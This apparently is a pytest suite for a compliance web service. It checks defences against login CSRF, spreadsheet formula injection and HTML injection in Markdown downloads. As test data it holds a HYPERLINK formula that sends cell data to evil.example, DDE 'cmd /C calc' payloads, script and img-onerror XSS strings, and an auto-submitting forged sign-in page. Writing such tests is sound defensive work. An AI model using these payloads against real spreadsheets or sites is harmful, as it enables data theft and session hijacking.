"""Web security: sign-in protected against login CSRF (a pre-session CSRF value bound to the browser and an
Origin/Referer check), the CSRF value rotated at sign-in, text written as text into every workbook the product writes
(no formula injection), and Markdown downloads without raw HTML from user text."""
from __future__ import annotations

import io
import json
import re

import pytest
import yaml
from lxml import html as lhtml
from markdown_it import MarkdownIt
from openpyxl import load_workbook
from typer.testing import CliRunner

from compliance.cli import app as cli
from compliance.evaluate import evaluate
from compliance.excel import read_workbook
from compliance.loading import validate
from compliance.render import render_markdown, render_matrix_markdown
from compliance.storage import AuditEntry, create_token
from webclient import FIXTURES, csrf_of, sign_in, web_client

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Открыть")'
RISKY = [FORMULA, "+7 (495) 000-00-00", "-1+1", "@SUM(A1:A2)", "\tтабуляция", "#N/A"]
SCRIPT = '<script>alert("x")</script> Парк'
IMG = '<img src=x onerror=alert(1)> Устав'


def _post_application(web, raw: dict):
    return web.client.post("/api/v1/applications", content=json.dumps(raw, ensure_ascii=False, default=str),
                           headers={"Authorization": f"Bearer {web.token}", "Content-Type": "application/json"})


def _other_token(web, org: str = "Злоумышленник") -> str:
    with web.app.state.sessions() as s:
        token, _ = create_token(s, org)
        s.commit()
    return token


def _fresh(web):
    return type(web.client)(web.app)


def _signed_in_as(client) -> str | None:
    """The organisation shown in the page header of this browser, or None when it is not signed in."""
    r = client.get("/applications", follow_redirects=False)
    if r.status_code != 200:
        return None
    return lhtml.fromstring(r.text).xpath("string(//div[@class='who']/span)").strip()


# --- login CSRF -------------------------------------------------------------------------------------------------
def test_sign_in_from_another_site_without_the_csrf_field_is_refused(tmp_path):
    """The attack: a page of evil.example posts another organisation's token to /sign-in from the victim's browser."""
    web = web_client(tmp_path)
    victim = _fresh(web)
    victim.get("/sign-in")  # the victim has been on the site: the browser holds its pre-session cookie
    attacker_token = _other_token(web)
    r = victim.post("/sign-in", data={"token": attacker_token, "next": "/applications"},
                    headers={"Origin": "http://evil.example"}, follow_redirects=False)
    assert r.status_code == 403
    assert "compliance_session" not in r.headers.get("set-cookie", "")
    assert "Войдите ещё раз" in r.text and 'name="token"' in r.text  # the sign-in form again, in Russian
    assert _signed_in_as(victim) is None
    with web.app.state.sessions() as s:
        assert s.query(AuditEntry).filter_by(action="web.sign_in").count() == 1  # only web_client's own sign-in


def test_sign_in_needs_the_csrf_field_of_this_browser(tmp_path):
    web = web_client(tmp_path)
    attacker_token = _other_token(web)
    # no field at all, from this site
    victim = _fresh(web)
    victim.get("/sign-in")
    r = victim.post("/sign-in", data={"token": attacker_token}, follow_redirects=False)
    assert r.status_code == 403 and "compliance_session" not in r.headers.get("set-cookie", "")
    # the attacker's own valid pre-session pair (field read from the attacker's browser) does not fit the victim's
    attacker = _fresh(web)
    field = csrf_of(attacker.get("/sign-in").text)
    r = victim.post("/sign-in", data={"token": attacker_token, "csrf": field}, follow_redirects=False)
    assert r.status_code == 403 and _signed_in_as(victim) is None
    # a browser without the pre-session cookie cannot sign in with any field
    bare = _fresh(web)
    r = bare.post("/sign-in", data={"token": attacker_token, "csrf": field}, follow_redirects=False)
    assert r.status_code == 403 and _signed_in_as(bare) is None
    # the same field in the attacker's own browser signs it in: the field is right, only bound to that browser
    r = attacker.post("/sign-in", data={"token": attacker_token, "csrf": field}, follow_redirects=False)
    assert r.status_code == 303 and _signed_in_as(attacker) == "Злоумышленник"


@pytest.mark.parametrize("headers", [{"Origin": "http://evil.example"}, {"Origin": "null"},
                                     {"Referer": "http://evil.example/page"},
                                     {"Origin": "http://testserver.evil.example", "Referer": "http://testserver/"}])
def test_sign_in_with_a_valid_field_but_a_foreign_origin_is_refused(tmp_path, headers):
    web = web_client(tmp_path)
    client = _fresh(web)
    field = csrf_of(client.get("/sign-in").text)
    r = client.post("/sign-in", data={"token": web.token, "csrf": field}, headers=headers, follow_redirects=False)
    assert r.status_code == 403 and _signed_in_as(client) is None


@pytest.mark.parametrize("headers", [{}, {"Origin": "http://testserver"}, {"Referer": "http://testserver/sign-in"}])
def test_sign_in_from_this_site_with_the_field_succeeds(tmp_path, headers):
    web = web_client(tmp_path)
    client = _fresh(web)
    r = sign_in(client, web.token, headers=headers)
    assert r.status_code == 303 and _signed_in_as(client) == "УК «Тест»"


def test_trusted_origin_from_settings_is_accepted(tmp_path):
    """Behind a proxy that does not pass the Host header, the public address is named in the settings."""
    web = web_client(tmp_path, trusted_origins=["https://compliance.example"])
    client = _fresh(web)
    assert sign_in(client, web.token, headers={"Origin": "https://compliance.example"}).status_code == 303
    other = _fresh(web)
    assert sign_in(other, web.token, headers={"Origin": "https://other.example"}).status_code == 403


def test_forms_of_a_signed_in_browser_posted_from_another_site_are_refused(tmp_path):
    web = web_client(tmp_path)
    field = web.csrf()
    r = web.client.post("/applications/new", data={"csrf": field}, headers={"Origin": "http://evil.example"},
                        follow_redirects=False)
    assert r.status_code == 403 and "Форма устарела" in r.text
    r = web.client.post("/sign-out", data={"csrf": field}, headers={"Origin": "http://evil.example"},
                        follow_redirects=False)
    assert r.status_code == 403 and _signed_in_as(web.client) == "УК «Тест»"


def test_a_page_of_another_site_cannot_sign_a_real_browser_in(page, server, org):
    """Login CSRF in Chromium: the victim has been on the site; a page of evil.example posts the attacker's token to
    /sign-in on its own. The browser stays signed out."""
    from playwright.sync_api import expect

    page.goto("/sign-in")
    attacker = server.org("Злоумышленник")
    evil = (f'<form method="post" action="{server.url}/sign-in"><input name="token" value="{attacker.token}">'
            '<input name="next" value="/applications"></form><script>document.forms[0].submit()</script>')
    page.route("http://evil.example/**", lambda route: route.fulfill(status=200, content_type="text/html", body=evil))
    page.goto("http://evil.example/")
    page.wait_for_url(f"{server.url}/sign-in")
    expect(page.locator("#token-error")).to_contain_text("Войдите ещё раз")
    assert "compliance_session" not in [c["name"] for c in page.context.cookies()]
    page.goto("/applications")
    expect(page).to_have_url(re.compile(r"/sign-in\?next=/applications$"))


# --- the CSRF value: bound to the browser, rotated at sign-in ----------------------------------------------------
def test_csrf_value_is_bound_to_the_browser_and_rotated_at_sign_in(tmp_path):
    web = web_client(tmp_path)
    browser = _fresh(web)
    pre_session = csrf_of(browser.get("/sign-in").text)
    assert sign_in(browser, web.token).status_code == 303
    first = csrf_of(browser.get("/applications").text)
    assert first != pre_session
    r = browser.post("/sign-out", data={"csrf": pre_session}, follow_redirects=False)
    assert r.status_code == 403 and _signed_in_as(browser) == "УК «Тест»"

    # the same token in another browser: another value, and neither works in the other browser
    other = web.csrf()
    assert other not in (first, pre_session)
    r = browser.post("/sign-out", data={"csrf": other}, follow_redirects=False)
    assert r.status_code == 403 and _signed_in_as(browser) == "УК «Тест»"
    r = web.client.post("/sign-out", data={"csrf": first}, follow_redirects=False)
    assert r.status_code == 403 and _signed_in_as(web.client) == "УК «Тест»"

    # signing in again in the same browser with the same token replaces the value; the old one stops working
    assert sign_in(browser, web.token).status_code == 303
    rotated = csrf_of(browser.get("/applications").text)
    assert rotated not in (first, pre_session, other)
    for stale in (first, pre_session):
        r = browser.post("/sign-out", data={"csrf": stale}, follow_redirects=False)
        assert r.status_code == 403
    assert _signed_in_as(browser) == "УК «Тест»"
    r = browser.post("/sign-out", data={"csrf": rotated}, follow_redirects=False)
    assert r.status_code == 303 and _signed_in_as(browser) is None
    assert _signed_in_as(web.client) == "УК «Тест»"  # the other browser's session is its own


def test_cookies_of_sign_in_are_http_only_and_same_site(tmp_path):
    web = web_client(tmp_path)
    client = _fresh(web)
    r = client.get("/sign-in")
    assert "compliance_browser=" in r.headers["set-cookie"]
    r = sign_in(client, web.token)
    cookies = r.headers.get_list("set-cookie")
    assert {c.split("=", 1)[0] for c in cookies} == {"compliance_session", "compliance_browser"}
    for cookie in cookies:
        assert "httponly" in cookie.lower() and "samesite=lax" in cookie.lower()


# --- formula injection --------------------------------------------------------------------------------------------
def _cells(book) -> list:
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def _assert_text_cells(book, expected: list[str]) -> None:
    """Every expected value is in the workbook as a string cell, exactly as typed; no cell is a formula or an error;
    a value that a spreadsheet would take for a formula carries the quote prefix."""
    cells = _cells(book)
    assert [c.coordinate for c in cells if c.data_type in ("f", "e")] == []
    for value in expected:
        found = [c for c in cells if c.value == value]
        assert found, value
        for c in found:
            assert c.data_type == "s"
            assert c.quotePrefix == (value[0] in "=+-@\t")


def _park_with_names(tmp_path, names: list[str]) -> list:
    """Application files of fixtures/ip794-created-gaps.yaml, one per site name."""
    raw = yaml.safe_load((FIXTURES / "ip794-created-gaps.yaml").read_text(encoding="utf-8"))
    folder = tmp_path / "in"
    folder.mkdir()
    for i, name in enumerate(names):
        (folder / f"app-{i}.json").write_text(json.dumps(dict(raw, site_name=name), ensure_ascii=False, default=str),
                                              encoding="utf-8")
    return folder


def test_batch_summary_writes_site_names_as_text_not_formulas(tmp_path):
    folder = _park_with_names(tmp_path, RISKY)
    out = tmp_path / "summary.xlsx"
    result = CliRunner().invoke(cli, ["batch", str(folder), "--output", str(out)])
    assert result.exit_code == 1, result.output
    book = load_workbook(out)
    _assert_text_cells(book, RISKY)
    sheet = book["Сводка"]
    by_site = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
    assert set(by_site) == set(RISKY)
    report = evaluate(validate(yaml.safe_load((FIXTURES / "ip794-created-gaps.yaml").read_text(encoding="utf-8"))),
                      "ip794")
    blocking = by_site[FORMULA][4]  # numbers stay numbers
    assert blocking.data_type == "n" and blocking.value == len(report.blocking_gaps)
    totals = {r[0].value: r[1] for r in book["Итоги"].iter_rows(min_row=2)}
    assert totals["Файлов"].value == len(RISKY) and totals["Файлов"].data_type == "n"


def test_control_characters_in_a_site_name_do_not_break_the_summary(tmp_path):
    """A workbook cannot hold control characters: they are replaced, and the summary is written (not an internal
    error)."""
    folder = _park_with_names(tmp_path, ["Парк\x01\x1b №1"])
    out = tmp_path / "summary.xlsx"
    result = CliRunner().invoke(cli, ["batch", str(folder), "--output", str(out)])
    assert result.exit_code == 1 and "Внутренняя ошибка" not in result.output, result.output
    _assert_text_cells(load_workbook(out), ["Парк\ufffd\ufffd №1"])
    assert json.loads(out.with_suffix(".json").read_text(encoding="utf-8"))["rows"][0]["site_name"] == "Парк\x01\x1b №1"


def test_cluster_template_filled_from_an_application_keeps_text_as_text_and_reads_back(tmp_path):
    raw = json.loads((FIXTURES / "cl779-conforming.json").read_text(encoding="utf-8"))
    raw["site_name"] = FORMULA
    raw["cluster"]["participants"][0]["name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    raw["documents"][0]["title"] = "-2+3+cmd|' /C calc'!A0"
    raw["documents"][0]["issuer"] = "\t=1+1"
    source = tmp_path / "app.json"
    source.write_text(json.dumps(raw, ensure_ascii=False), encoding="utf-8")
    out = tmp_path / "filled.xlsx"
    result = CliRunner().invoke(cli, ["template", "cl779", "--from", str(source), "-o", str(out)])
    assert result.exit_code == 0, result.output
    expected = [FORMULA, raw["cluster"]["participants"][0]["name"], raw["documents"][0]["title"], "\t=1+1"]
    _assert_text_cells(load_workbook(out), expected)
    # numbers of the application are still numbers in the workbook
    numbers = [c for c in _cells(load_workbook(out)) if c.data_type == "n"]
    assert numbers
    # the workbook reads back to the same text: nothing was prefixed or altered
    back = read_workbook(out)
    assert back.site_name == FORMULA
    assert back.cluster.participants[0].name == raw["cluster"]["participants"][0]["name"]
    assert back.documents[0].title == raw["documents"][0]["title"]
    raw["documents"][0]["issuer"] = "=1+1"  # the reader trims the whitespace around every cell's text
    assert back == validate(raw)


def test_the_services_batch_summary_writes_site_names_as_text(tmp_path):
    web = web_client(tmp_path)
    raw = yaml.safe_load((FIXTURES / "ip794-created-gaps.yaml").read_text(encoding="utf-8"))
    ids = []
    for name in (FORMULA, "@SUM(A1:A2)"):
        r = _post_application(web, dict(raw, site_name=name))
        assert r.status_code == 201, r.text
        ids.append(r.json()["id"])
    r = web.post("/checks/batch", [("ids", i) for i in ids] + [("regime", ""), ("as_of", "")])
    assert r.status_code == 303, r.text[:2000]
    x = web.client.get(r.headers["location"].replace("/checks/batch?", "/checks/batch.xlsx?"))
    assert x.status_code == 200
    _assert_text_cells(load_workbook(io.BytesIO(x.content)), [FORMULA, "@SUM(A1:A2)"])


# --- Markdown without raw HTML --------------------------------------------------------------------------------------
def _application_with_html():
    raw = yaml.safe_load((FIXTURES / "ip794-created-gaps.yaml").read_text(encoding="utf-8"))
    raw["site_name"] = SCRIPT
    raw["documents"][0]["title"] = IMG
    return raw


def _assert_no_raw_html(markdown: str) -> None:
    """No raw tag in the text, and a CommonMark renderer (with tables and raw HTML allowed) makes no element of it:
    the user's text is shown literally."""
    assert "<script" not in markdown.lower() and "<img" not in markdown.lower()
    page = MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)
    tree = lhtml.fromstring(f"<div>{page}</div>")
    assert tree.xpath("//script | //img") == []
    assert SCRIPT in tree.text_content()


def test_markdown_report_escapes_html_in_user_text():
    raw = _application_with_html()
    report = evaluate(validate(raw), "ip794")
    md = render_markdown(report)
    _assert_no_raw_html(md)
    page = lhtml.fromstring(f"<div>{MarkdownIt('commonmark', {'html': True}).enable('table').render(md)}</div>")
    assert page.xpath("string(//h1)") == f"Отчёт о соответствии: {SCRIPT}"
    assert IMG in page.text_content()  # the document's title, shown as typed


def test_markdown_matrix_escapes_html_in_the_site_name():
    from compliance.eligibility import eligibility

    app = validate(_application_with_html())
    _assert_no_raw_html(render_matrix_markdown(eligibility(app)))


def test_markdown_download_of_the_service_has_no_raw_html(tmp_path):
    web = web_client(tmp_path)
    r = _post_application(web, _application_with_html())
    assert r.status_code == 201, r.text
    r = web.post(f"/applications/{r.json()['id']}/check", {"regime": "", "as_of": ""})
    assert r.status_code == 303, r.text[:2000]
    md = web.client.get(f"{r.headers['location']}/report.md")
    assert md.status_code == 200 and md.headers["content-type"].startswith("text/markdown")
    _assert_no_raw_html(md.text)
    assert re.search(r"^# Отчёт о соответствии: &lt;script&gt;", md.text, re.M)


def test_markdown_what_if_shows_a_value_with_backticks_as_code(tmp_path):
    """A value of `--set` is shown in a code span that its own backticks cannot close."""
    value = "`" + SCRIPT + "`"
    result = CliRunner().invoke(cli, ["check", str(FIXTURES / "ip794-created-gaps.yaml"), "--format", "md",
                                      "--set", f"site_name={json.dumps(value, ensure_ascii=False)}"])
    assert result.exit_code == 1, result.output
    page = lhtml.fromstring(f"<div>{MarkdownIt('commonmark', {'html': True}).render(result.stdout)}</div>")
    assert page.xpath("//script") == []
    assert json.dumps(value, ensure_ascii=False) in page.xpath("//li/code/text()")
